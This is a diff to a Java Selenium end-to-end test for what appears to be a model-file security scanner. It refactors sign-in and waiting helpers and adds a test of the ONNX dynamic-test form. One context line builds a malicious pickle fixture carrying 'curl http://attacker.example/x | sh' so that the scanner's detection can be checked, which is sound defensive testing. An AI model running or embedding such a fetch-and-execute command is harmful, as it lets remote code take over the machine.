@@ -66,12 +66,8 @@ class BrowserFlowTest {
 
   @Test
   void signInUploadTwoVersionsSeeVerdictsOpenAFindingAndTheDiff() throws Exception {
-    String base = "http://127.0.0.1:" + server.port();
-    browser.get(base + "/");
-    assertThat(browser.getCurrentUrl()).endsWith("/login");
-    browser.findElement(By.id("token")).sendKeys(token);
-    browser.findElement(By.cssSelector("form[action='/login'] button")).click();
-    waitFor(d -> d.findElement(By.tagName("h1")).getText().equals("Dashboard"));
+    String base = base();
+    signIn();
     shot("1-dashboard-empty");
 
     Path evil = Files.write(tmp.resolve("classifier.pkl"), Fixtures.maliciousPickle("curl http://attacker.example/x | sh"));
@@ -122,6 +118,45 @@ class BrowserFlowTest {
     assertThat(scrollWidth.intValue()).as("no horizontal scrolling on a phone-sized screen").isLessThanOrEqualTo(400);
   }
 
+  @Test
+  void dynamicTestFormRunsAJobAndOpensItsHtmlReport() throws Exception {
+    signIn();
+    browser.manage().window().setSize(new Dimension(1100, 1000));
+    browser.findElement(By.linkText("Dynamic test")).click();
+    waitFor(d -> d.findElement(By.tagName("h1")).getText().equals("Test an ONNX model"));
+    Path fx = Path.of("../modelvet-dynamic/src/test/resources/fixtures").toAbsolutePath().normalize();
+    browser.findElement(By.id("model")).sendKeys(fx.resolve("linear_bc.onnx").toString());
+    browser.findElement(By.id("data")).sendKeys(fx.resolve("linear_bc_test.csv").toString());
+    browser.findElement(By.id("target")).sendKeys("target");
+    browser.findElement(By.id("test-stability")).click();
+    shot("7-dynamic-test-form");
+    browser.findElement(By.cssSelector("#test-form button")).click();
+    waitFor(d -> d.getCurrentUrl().contains("/scans/"));
+    waitFor(d -> d.findElement(By.tagName("h1")).getText().startsWith("Dynamic test: linear_bc.onnx")); // the page reloads itself until done
+    waitFor(d -> d.findElement(By.id("status")).getText().equals("done"), 180);
+    assertThat(browser.findElement(By.id("verdict")).getText()).isNotBlank();
+    shot("8-dynamic-test-done");
+    browser.findElement(By.linkText("HTML report")).click();
+    waitFor(d -> d.getCurrentUrl().endsWith("/report.html"));
+    assertThat(browser.getPageSource()).contains("stability");
+    assertThat(browser.findElement(By.tagName("body")).getText()).containsIgnoringCase("stability");
+    shot("9-dynamic-test-report");
+  }
+
+  private String base() {
+    return "http://127.0.0.1:" + server.port();
+  }
+
+  /** Signs in through the form unless this browser already has a session. */
+  private void signIn() {
+    browser.get(base() + "/");
+    if (browser.getCurrentUrl().endsWith("/login")) {
+      browser.findElement(By.id("token")).sendKeys(token);
+      browser.findElement(By.cssSelector("form[action='/login'] button")).click();
+    }
+    waitFor(d -> d.findElement(By.tagName("h1")).getText().equals("Dashboard"));
+  }
+
   private void upload(String base, Path file, String model) {
     browser.get(base + "/upload");
     browser.findElement(By.id("file")).sendKeys(file.toString());
@@ -131,8 +166,17 @@ class BrowserFlowTest {
   }
 
   private void waitFor(java.util.function.Function<WebDriver, Boolean> cond) {
-    new WebDriverWait(browser, Duration.ofSeconds(60)).ignoring(org.openqa.selenium.NoSuchElementException.class)
-        .ignoring(org.openqa.selenium.StaleElementReferenceException.class).until(cond::apply); // the scan page refreshes itself until done
+    waitFor(cond, 60);
+  }
+
+  /** Waits for {@code cond}, ignoring the page reloading itself (the scan page refreshes until done); names the page on timeout. */
+  private void waitFor(java.util.function.Function<WebDriver, Boolean> cond, int seconds) {
+    try {
+      new WebDriverWait(browser, Duration.ofSeconds(seconds)).ignoring(org.openqa.selenium.NoSuchElementException.class)
+          .ignoring(org.openqa.selenium.StaleElementReferenceException.class).ignoring(org.openqa.selenium.WebDriverException.class).until(cond::apply);
+    } catch (org.openqa.selenium.TimeoutException e) {
+      throw new AssertionError("timed out on " + browser.getCurrentUrl() + ": " + browser.findElement(By.tagName("body")).getText(), e);
+    }
   }
 
   private void shot(String name) throws Exception {
